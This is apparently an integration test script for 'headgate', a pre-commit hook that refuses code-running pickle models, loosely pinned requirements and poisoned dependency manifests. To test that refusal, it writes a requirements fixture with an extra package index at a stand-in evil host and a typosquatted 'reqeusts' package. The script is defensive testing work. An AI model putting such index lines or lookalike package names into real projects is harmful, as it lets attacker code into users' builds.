#!/usr/bin/env bash
# The hook under the real pre-commit, in a scratch repository.
# shellcheck source=../../lib.sh
. "$(dirname "${BASH_SOURCE[0]}")/../../lib.sh"
export GIT_CONFIG_GLOBAL="$scratch/gitconfig" GIT_CONFIG_SYSTEM=/dev/null PRE_COMMIT_HOME="$scratch/cache"
printf '[user]\n\tname = t\n\temail = t@team.example\n[safe]\n\tdirectory = *\n' >"$GIT_CONFIG_GLOBAL"
pre_commit=/usr/bin/pre-commit
mkdir "$scratch/bin"
ln -s "$HEADGATE" "$scratch/bin/headgate"
PATH="$scratch/bin:$PATH"

expect "pre-commit is there" 0 "$pre_commit" --version
says "it is a version 3 or later" 'pre-commit ([3-9]|[1-9][0-9])\.'

# The hooks as another repository gives them.
hooks="$scratch/hooks"
mkdir "$hooks"
cp "$root/.pre-commit-hooks.yaml" "$hooks/"
git -C "$hooks" init -q
git -C "$hooks" add .
git -C "$hooks" commit -qm hooks

mkdir -p "$scratch/repository/models"
cd "$scratch/repository" || exit 1
git init -q -b main .
printf 'repos:\n  - repo: %s\n    rev: %s\n    hooks: [ { id: headgate } ]\n' "file://$hooks" "$(git -C "$hooks" rev-parse HEAD)" >.pre-commit-config.yaml
echo 'no model here' >notes.txt
git add .
expect "the hook is installed" 0 "$pre_commit" install --install-hooks
expect "a commit without models passes, unjudged" 0 git commit -qm notes
says "the hook was skipped" 'headgate|Judge|no files to check|Skipped'

make_model models/good.safetensors
make_model models/-dash.safetensors
git add .
expect "a commit of an honest model passes" 0 git commit -qm model

make_attack models/bad.pkl
git add .
expect "a commit of a model that runs code is refused" 1 git commit -qm attack
says "the report names the file and the call" 'bad\.pkl'
expect "the same file through try-repo is refused" 1 "$pre_commit" try-repo "$hooks" headgate --files models/bad.pkl models/good.safetensors
says "with exit code 1" 'exit code: 1'
git rm -q --cached models/bad.pkl
rm models/bad.pkl
expect "the whole repository passes without it" 0 "$pre_commit" run --all-files

echo 'requests>=2' >requirements.txt
git add .
expect "a commit of a range of versions is refused: the hook judges by its own pack" 1 git commit -qm range
says "the report names the rule" 'package\.exact \(pre-commit\.yaml'
echo 'requests==2.32.3' >requirements.txt
git add .
expect "a commit of an exact version passes, without a hash too" 0 git commit -qm exact
printf -- '--extra-index-url https://packages.evil.example/simple\nrequests==2.32.3\nreqeusts==1.0\n' >requirements.txt
git add .
expect "a commit of poisoned requirements is refused" 1 git commit -qm poison
says "the second index" 'extra-index-url .*packages\.evil\.example'
says "and the near miss" "'reqeusts' looks like 'requests'"
git checkout -q HEAD -- requirements.txt

# The hook is asked about every kind of manifest that there is.
for name in pyproject.toml uv.lock poetry.lock Cargo.lock go.mod Gemfile.lock yarn.lock pnpm-lock.yaml bun.lock .npmrc composer.lock pom.xml packages.lock.json \
    environment.yml a/compose.yaml .github/workflows/ci.yml .gitlab-ci.yml bom.cdx.json Dockerfile.dev; do
    mkdir -p "$(dirname "$name")"
    printf '\0' >"$name"
    git add "$name"
    expect "the hook is asked about $name" 1 git commit -qm manifest
    says "and refuses what is none" "$name"
    git rm -q --cached "$name"
    rm "$name"
done
status=$(git status --porcelain)
if [ -z "$status" ]; then ok "the hook leaves the tree as it was"; else not_ok "the hook leaves the tree as it was" "$status"; fi

PATH=${PATH#"$scratch/bin:"}
if command -v headgate >/dev/null; then
    skip "without a binary the hook fails" "a headgate is installed on this machine"
else
    expect "without a binary the hook fails" 1 "$pre_commit" run --all-files
fi
